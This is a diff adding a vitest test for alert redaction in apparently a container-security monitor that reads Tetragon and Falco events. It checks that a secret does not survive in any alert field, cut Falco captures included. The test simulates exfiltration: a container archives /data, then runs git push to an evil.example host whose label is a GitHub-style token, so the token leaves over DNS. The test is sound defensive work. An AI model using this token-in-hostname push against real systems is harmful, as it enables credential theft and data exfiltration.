@@ -1,0 +1,64 @@
+/**
+ * Credentials driven through whole alerts, in both sensors' forms, not through redact() alone: every field of
+ * the alert as published (summary, process, push, evidence, response) is searched for the secret, case
+ * folded (a destination host is lower-cased). Tetragon quotes an argument holding a blank; Falco joins argv
+ * with spaces, and cuts it at its 4 KiB capture limit, anywhere, mid-token too.
+ */
+import { describe, expect, it } from 'vitest';
+import type { Alert } from '../../../src/model/alert.js';
+import type { SensorSource } from '../../../src/model/normalized-event.js';
+import { MiB, runResolved, Scenario } from './builder.js';
+
+const GHP = 'ghp_R4nd0mT0k3nV4lu3Abcdef0123456789XY';
+
+interface Leak {
+  /** The pushing process's argv, without argv[0]. */
+  argv: string[];
+  /** A `sh -c` script that ran it, when the secret is in the script. */
+  script?: string;
+  secret: string;
+}
+
+/** As Tetragon gives argv: an argument holding a blank in double quotes; as Falco: joined with spaces. */
+function joined(argv: readonly string[], source: SensorSource): string {
+  return source === 'falco' ? argv.join(' ') : argv.map((a) => (/\s/.test(a) ? `"${a}"` : a)).join(' ');
+}
+
+async function alertsOf(c: Leak, source: SensorSource, cut = false): Promise<Alert[]> {
+  let args = joined(c.argv, source);
+  let script = c.script === undefined ? undefined : joined(['-c', c.script], source);
+  if (cut) {
+    // Falco's capture limit falls in the middle of the secret: what is left of it must not survive either.
+    const half = Math.ceil(c.secret.length / 2);
+    if (args.includes(c.secret)) args = args.slice(0, args.indexOf(c.secret) + half);
+    else if (script !== undefined) script = script.slice(0, script.indexOf(c.secret) + half);
+  }
+  const s = new Scenario({ source });
+  const ctr = s.container();
+  const init = s.init(ctr);
+  const sh = script === undefined ? init : s.exec(ctr, '/bin/sh', script, { parent: init });
+  const tar = s.exec(ctr, '/bin/tar', 'cf /tmp/d.tar /data', { parent: sh });
+  s.read(tar, '/data/big.bin', 80 * MiB).wait(1000);
+  const bin = c.argv[0] === 'push' ? '/usr/bin/git' : '/usr/bin/curl';
+  const p = s.exec(ctr, bin, args, { parent: sh });
+  s.connect(p, '140.82.112.3', 443).send(p, '140.82.112.3', 443, 20 * MiB);
+  return (await runResolved(s.events)).alerts;
+}
+
+function expectNoLeak(alerts: readonly Alert[], secret: string): void {
+  expect(alerts.length).toBeGreaterThan(0);
+  expect(JSON.stringify(alerts).toLowerCase()).not.toContain(secret.toLowerCase());
+}
+
+describe('alert redaction: every field of an alert', () => {
+  for (const source of ['tetragon', 'falco'] as const) {
+    // The summary and the response's traffic step said the destination as it was, unredacted: a host whose
+    // label is a token (`https://ghp_….evil.example/…`, the token sent by DNS) reached them whole.
+    it(`a token as a host's label (${source})`, async () => {
+      const c = { argv: ['push', `https://${GHP}.evil.example/acme/app.git`, 'main'], secret: GHP };
+      const alerts = await alertsOf(c, source);
+      expectNoLeak(alerts, GHP);
+      expect(alerts[0]?.summary).toContain('git push to [REDACTED].evil.example');
+    });
+  }
+});
